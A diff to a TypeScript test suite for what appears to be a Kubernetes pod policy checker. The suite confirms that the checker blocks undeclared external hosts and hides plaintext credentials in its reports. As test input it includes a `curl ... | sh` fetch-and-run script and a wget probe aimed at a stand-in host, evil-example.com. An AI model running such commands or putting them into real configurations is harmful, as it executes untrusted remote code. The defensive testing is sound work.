@@ -221,7 +221,9 @@ describe('bypasses closed', () => {
       ['git@evil-example.com:org/repo.git', 'evil-example.com'],
     ];
     const places: [string, (v: string) => Json][] = [
-      ['an env value', (v) => podWith({ env: [{ name: 'TARGET_VALUE', value: v }] })],
+      // A variable whose name says it holds a URL (issue 20: under a name that says nothing, only
+      // a URL is judged, and `git@host:path` is not one).
+      ['an env value', (v) => podWith({ env: [{ name: 'SOURCE_URL', value: v }] })],
       ['args', (v) => podWith({ args: ['--upstream', v] })],
       ['an sh -c script', (v) => podWith({ command: ['sh', '-c', `set -e; curl -fsS '${v}' | sh`] })],
       ['a probe exec command', (v) => podWith({ livenessProbe: { exec: { command: ['wget', '-q', v] } } })],
@@ -256,8 +258,15 @@ describe('bypasses closed', () => {
       const j = denied(podWith({ env: [{ name: 'DB_PASSWORD', value: pw }, { name: 'P', value: `x${pw}` }, { name: 'TOKEN_VALUE', value: '$(P)' }] }));
       expect(JSON.stringify(j.verdict)).not.to.contain(pw);
       expect(rules(j)).to.include('plaintext-credential spec.containers[0].env[0].value');
-      // P is not sensitive by name, but its value becomes TOKEN_VALUE: its host is reported, not shown.
-      expect(rules(j)).to.include('undeclared-external-host spec.containers[0].env[1].value');
+      // P says nothing about hosts (issue 20): only a shape, warned about without being shown.
+      expect(j.verdict.warnings.some((w) => w.includes('spec.containers[0].env[1].value') && w.includes('not judged'))).to.equal(true);
+    });
+
+    it('a host position in a value that flows into a credential is reported without the host', () => {
+      const host = ['summer', '2024', '.io'].join('');
+      const j = denied(podWith({ env: [{ name: 'DB_HOST', value: host }, { name: 'DB_PASSWORD', value: '$(DB_HOST)' }] }));
+      expect(JSON.stringify(j.verdict)).not.to.contain(host);
+      expect(rules(j)).to.include('undeclared-external-host spec.containers[0].env[0].value');
     });
 
     it('still shows a host in a value that holds no credential', () => {
